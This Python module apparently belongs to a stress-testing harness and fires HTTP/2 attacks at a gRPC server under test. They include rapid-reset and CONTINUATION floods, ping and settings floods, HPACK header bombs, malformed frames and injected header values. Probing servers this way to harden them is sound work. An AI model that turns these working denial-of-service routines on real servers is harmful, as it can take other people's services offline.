"""HTTP/2 frames: floods of them, invalid ones, truncated ones."""

from __future__ import annotations

import contextlib
import struct
import time

from benchmarks.siege.attack import attack
from benchmarks.siege.attacks.http2 import CALL, SMALL, open_stream
from benchmarks.siege.target import AttackTarget, read_until_streams_end, reset, run_concurrently, send
from benchmarks.siege.wire import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PADDED,
    PING,
    PREDICT,
    PREFACE,
    PRIORITY,
    PUSH,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    block,
    call_headers,
    data,
    floats_request,
    frame,
    header,
    message,
    settings,
    varint,
)


def flood(target: AttackTarget, pieces: list[bytes], *, connections: int = 4, seconds: float = 4.0) -> None:
    """Sends the pieces in turn over several connections, without reading, until time is up or the server closes."""

    def push(_: int) -> None:
        with contextlib.suppress(OSError), target.http2() as connection:
            connection.settimeout(seconds)
            until = time.monotonic() + seconds
            while time.monotonic() < until:
                if not send(connection, *pieces):
                    target.count_response("closed")
                    return
            target.count_response("took all")

    run_concurrently(connections, push)


@attack("rapid resets", quick=True)
def rapid_reset(target: AttackTarget) -> None:
    def push(_: int) -> None:
        with contextlib.suppress(OSError), target.http2() as connection:
            connection.settimeout(4)
            stream = 1
            until = time.monotonic() + 4
            while time.monotonic() < until:
                pieces = []
                for _ in range(200):
                    pieces.append(open_stream(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                    stream += 2
                if not send(connection, b"".join(pieces)):
                    target.count_response("closed")
                    return
            target.count_response("took all")

    run_concurrently(4, push)


@attack("rapid resets of whole calls", health_ms=500.0)
def rapid_calls(target: AttackTarget) -> None:
    def push(_: int) -> None:
        for _ in range(20):
            with contextlib.suppress(OSError), target.http2() as connection:
                connection.settimeout(2)
                for stream in range(1, 400, 2):
                    call = open_stream(stream) + data(stream, SMALL)
                    send(connection, call + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))

    run_concurrently(4, push)


@attack("floods of pings", quick=True)
def pings(target: AttackTarget) -> None:
    flood(target, [frame(PING, 0, 0, bytes(8)) * 2000])


@attack("floods of settings and priorities")
def setting_floods(target: AttackTarget) -> None:
    flood(target, [settings() * 2000], seconds=2)
    flood(target, [settings(header_table_size=4096, initial_window_size=70000) * 500], seconds=2)
    flood(target, [frame(PRIORITY, 0, 1, bytes(5)) * 2000], seconds=2)
    flood(target, [frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2000], seconds=2)
    flood(target, [frame(SETTINGS, ACK) * 2000], seconds=2)
    flood(target, [frame(50, 0, 0, bytes(100)) * 500], seconds=2)


@attack("floods of empty DATA and CONTINUATION", quick=True)
def empty_frames(target: AttackTarget) -> None:
    def push(first: bytes, piece: bytes) -> None:
        with contextlib.suppress(OSError), target.http2() as connection:
            connection.settimeout(3)
            until = time.monotonic() + 3
            send(connection, first)
            while time.monotonic() < until and send(connection, piece):
                pass

    padding = frame(DATA, PADDED, 1, b"\xff" + bytes(255))
    for first, piece in (
        (open_stream(1), frame(DATA, 0, 1) * 2000),
        (open_stream(1), padding * 200),
        (frame(HEADERS, 0, 1, CALL), frame(CONTINUATION, 0, 1) * 2000),
        (frame(HEADERS, 0, 1, CALL), frame(CONTINUATION, 0, 1, header("x", "y" * 4000)) * 10),
    ):
        run_concurrently(2, lambda _, first=first, piece=piece: push(first, piece))


@attack("header bombs", quick=True)
def header_bombs(target: AttackTarget) -> None:
    large = b"\x40" + b"\x01a" + b"\x7f" + varint(4000 - 127) + b"b" * 4000  # is added to the HPACK table
    for count in (100, 16_000):
        with target.http2(5) as connection:
            block_of_headers = CALL + large + b"\xbe" * count
            pieces = [block_of_headers[at : at + 16_000] for at in range(0, len(block_of_headers), 16_000)]
            send(connection, frame(HEADERS, END_HEADERS if len(pieces) == 1 else 0, 1, pieces[0]))
            for index, piece in enumerate(pieces[1:], 2):
                send(connection, frame(CONTINUATION, END_HEADERS if index == len(pieces) else 0, 1, piece))
            read_until_streams_end(connection)
    for value in (b"v" * 9000, b"v" * 70_000):
        target.call(PREDICT, floats_request(1.0), metadata=[("x", value.decode())])
    target.call(PREDICT, floats_request(1.0), metadata=[(f"k{index}", "v") for index in range(2000)])


@attack("messages in frames of one byte", quick=True)
def tiny_frames(target: AttackTarget) -> None:
    body = message(floats_request(1.0) + block(100, bytes(200_000)))
    with target.http2(10) as connection:
        send(connection, open_stream(1))
        send(connection, data(1, body, size=1))
        read_until_streams_end(connection)


@attack("invalid frames", quick=True)
def wrong_frames(target: AttackTarget) -> None:
    for content in (
        frame(DATA, 0, 1, b"x"),
        frame(DATA, 0, 0, b"x"),
        frame(HEADERS, END_HEADERS, 2, CALL),
        frame(HEADERS, END_HEADERS, 0, CALL),
        frame(HEADERS, END_HEADERS, 1, b"\xff" * 100),
        frame(HEADERS, END_HEADERS, 1, b""),
        frame(HEADERS, END_HEADERS | PADDED, 1, b"\xff" + CALL),
        frame(CONTINUATION, END_HEADERS, 1, CALL),
        frame(PUSH, END_HEADERS, 1, bytes(4) + CALL),
        frame(PING, 0, 0, bytes(7)),
        frame(PING, 0, 1, bytes(8)),
        frame(SETTINGS, 0, 1),
        frame(SETTINGS, 0, 0, bytes(5)),
        frame(SETTINGS, ACK, 0, bytes(6)),
        settings(initial_window_size=2**32 - 1),
        settings(max_frame_size=1),
        settings(max_frame_size=2**24 - 1, max_concurrent_streams=0, header_table_size=2**32 - 1),
        frame(WINDOW_UPDATE, 0, 0, bytes(4)),
        frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2,
        frame(RST_STREAM, 0, 0, bytes(4)),
        frame(RST_STREAM, 0, 99, bytes(4)),
        frame(GOAWAY, 0, 0, bytes(8)),
        frame(GOAWAY, 0, 0, bytes(3)),
        b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + bytes(20_000),
        open_stream(1) + open_stream(1),
        open_stream(1) + data(1, SMALL) + data(1, SMALL),
        open_stream(1) + data(1, SMALL * 3),
        open_stream(1) + data(1, b""),
        open_stream(1, last=True),
        open_stream(1) + data(1, SMALL[:3]),
        open_stream(1) + data(1, message(b"", compressed=True)),
        open_stream(1) + data(1, b"\x07" + SMALL[1:]),
        open_stream(1) + data(1, SMALL, last=False) + frame(HEADERS, END_HEADERS | END_STREAM, 1, header("x", "y")),
        open_stream(1) + frame(GOAWAY, 0, 0, bytes(8)) + data(1, SMALL),
    ):
        with target.http2(0.5) as connection:
            send(connection, content)
            read_until_streams_end(connection)
    for start in (b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01" + bytes(600), bytes(100), PREFACE + bytes(100)):
        with target.raw(target.port, 0.5) as connection:
            send(connection, start)
            read_until_streams_end(connection)


@attack("invalid headers", quick=True)
def wrong_headers(target: AttackTarget) -> None:
    for more in (
        [("grpc-timeout", value) for value in ("", "0n", "-1S", "99999999H", "999999999999S", "1", "S", "1e3S", "٣S")],
        [("grpc-encoding", value) for value in ("gzip", "br", "identity,gzip", "x" * 5000)],
        [("content-type", value) for value in ("application/json", "", "application/grpc+json")],
        [(name, "x") for name in (":path", ":bad", "X-Upper", "connection", "te", "transfer-encoding", "a b", "\xff")],
        [("content-length", value) for value in ("0", "5", "-1", "x", "9" * 30)],
        [("x-bin", "%%%"), ("x", "\0"), ("x", "\r\nevil: 1"), ("authorization", "Bearer " + "k" * 5000)],
    ):
        for pair in more:
            with target.http2(0.3) as connection:
                send(connection, open_stream(1, call_headers(PREDICT, pair)) + data(1, SMALL))
                read_until_streams_end(connection)
    for path in ("", "x", "/", "//", "/a/b/c", "/" + "p" * 6000, "/\0", "/tensorflow.serving.PredictionService/Nope"):
        with target.http2(0.3) as connection:
            send(connection, open_stream(1, call_headers(path)) + data(1, SMALL))
            read_until_streams_end(connection)


@attack("2,000 resets in the middle of calls")
def resets(target: AttackTarget) -> None:
    whole = PREFACE + settings() + open_stream(1) + data(1, SMALL)
    for index in range(2000):
        with contextlib.suppress(OSError):
            connection = target.raw(target.port)
            send(connection, whole[: (index * 11) % (len(whole) + 1)])
            reset(connection)
